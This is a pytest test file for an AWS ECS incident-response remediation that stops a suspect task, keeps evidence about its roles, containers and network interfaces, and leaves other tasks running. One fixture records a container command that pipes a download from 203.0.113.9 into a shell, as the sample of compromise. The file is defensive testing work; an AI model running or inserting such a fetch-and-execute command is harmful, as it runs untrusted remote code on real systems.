"""A task is stopped, what is known of it is kept, and the other tasks of its cluster go on."""

from __future__ import annotations

from dataclasses import replace
from typing import Any

import pytest

from chalicelib.errors import Gone, Unsupported
from chalicelib.model import Resource
from chalicelib.reconcile import plan, read, write
from remediations.ecs.stop_task_after_evidence import remediation
from tests.aws import ACCOUNT, REGION, Aws, apply, make

TASKS = f"arn:aws:ecs:{REGION}:{ACCOUNT}:task"
TASK = Resource("AWS::ECS::Task", f"{TASKS}/production/0123456789abcdef0123456789abcdef", ACCOUNT, REGION)
OK = type("Http", (), {"status_code": 200})()


def states(aws: Aws) -> dict[str, str]:
    ecs = aws.client("ecs")
    arns = ecs.list_tasks(cluster="production")["taskArns"]
    found = ecs.describe_tasks(cluster="production", tasks=arns)["tasks"]
    return {task["taskArn"]: task["lastStatus"] for task in found}


def answered(aws: Aws, **said: Any) -> None:
    """Have ECS answer with the task it has, but for what is said."""
    [task] = aws.client("ecs").describe_tasks(cluster="production", tasks=[TASK.id])["tasks"]
    told = {"tasks": [{**task, **said}], "ResponseMetadata": {}}
    aws.client("ecs").meta.events.register("before-call.ecs.DescribeTasks", lambda **_: (OK, told))


def test_the_task_is_stopped_and_the_other_one_runs_on(aws: Aws) -> None:
    make(aws, TASK)
    [other] = set(states(aws)) - {TASK.id}
    aws.calls.clear()
    apply(aws, remediation, TASK)
    stop = {"cluster": "production", "task": TASK.id, "reason": "countermeasure: inc-1"}
    assert [call for call in aws.calls if call[0] == "StopTask"] == [("StopTask", stop)]
    assert states(aws) == {TASK.id: "STOPPED", other: "RUNNING"}


def test_what_ran_as_whom_and_where_is_kept_without_the_environment(aws: Aws) -> None:
    make(aws, TASK)
    [interface] = aws.client("ec2").describe_network_interfaces(
        Filters=[{"Name": "description", "Values": ["moto ECS"]}]
    )["NetworkInterfaces"][:1]
    before, after = apply(aws, remediation, TASK)
    assert after == {"task": "stopped"}
    role = f"arn:aws:iam::{ACCOUNT}:role/web"
    assert before == {
        "task": "running",
        "evidence": {
            "definition": f"arn:aws:ecs:{REGION}:{ACCOUNT}:task-definition/web:1",
            "role": f"{role}-taskRoleArn",
            "execution_role": f"{role}-executionRoleArn",
            "group": "service:web",
            "started_by": "ecs-svc/1234567890",
            "containers": before["evidence"]["containers"],
            "commands": {"web": {"command": ["sh", "-c", "curl http://203.0.113.9/x | sh"]}},
            "interfaces": {
                interface["NetworkInterfaceId"]: {
                    "vpc": interface["VpcId"],
                    "subnet": interface["SubnetId"],
                    "groups": [group["GroupId"] for group in interface["Groups"]],
                    "addresses": [interface["PrivateIpAddress"]],
                }
            },
        },
    }
    assert before["evidence"]["containers"]["web"]["image"] == "registry.example.com/web:latest"
    assert "an-example" not in str(before)


@pytest.mark.parametrize(
    ("last", "wanted", "expected"),
    [
        ("PENDING", "RUNNING", "running"),
        ("RUNNING", "STOPPED", "stopping"),
        ("STOPPING", "STOPPED", "stopping"),
        ("DEPROVISIONING", "STOPPED", "stopped"),
        ("STOPPED", "STOPPED", "stopped"),
    ],
)
def test_a_task_runs_until_its_containers_have_ended(aws: Aws, last: str, wanted: str, expected: str) -> None:
    make(aws, TASK)
    answered(aws, lastStatus=last, desiredStatus=wanted)
    assert read(remediation, aws, TASK)["task"] == expected


def test_a_task_that_is_stopping_already_is_not_stopped_again(aws: Aws) -> None:
    make(aws, TASK)
    answered(aws, lastStatus="STOPPING", desiredStatus="STOPPED")
    planned = plan(remediation, aws, TASK)
    aws.calls.clear()
    write(remediation, aws, TASK, planned.before, planned.after)
    assert (planned.needed, aws.calls) == (True, [])


def test_a_task_on_its_hosts_network_has_no_interface_of_its_own(aws: Aws) -> None:
    make(aws, TASK)
    answered(aws, attachments=[])
    assert "interfaces" not in read(remediation, aws, TASK)["evidence"]


def test_a_task_that_ecs_has_forgotten_is_gone(aws: Aws) -> None:
    make(aws, TASK)
    with pytest.raises(Gone, match="for an hour"):
        read(remediation, aws, replace(TASK, id=f"{TASKS}/production/00000000000000000000000000000000"))


def test_a_task_of_a_cluster_that_is_gone_is_gone(aws: Aws) -> None:
    with pytest.raises(Gone):
        read(remediation, aws, TASK)


@pytest.mark.parametrize("id_", [f"{TASKS}/0123456789abcdef", "0123456789abcdef"])
def test_a_task_whose_cluster_nobody_names_is_unsupported(aws: Aws, id_: str) -> None:
    with pytest.raises(Unsupported, match="names its cluster"):
        read(remediation, aws, replace(TASK, id=id_))


def test_a_task_that_runs_as_its_definition_says_has_no_commands_of_its_own(aws: Aws) -> None:
    make(aws, TASK)
    answered(aws, overrides={"containerOverrides": [{"name": "web"}]})
    assert "commands" not in read(remediation, aws, TASK)["evidence"]
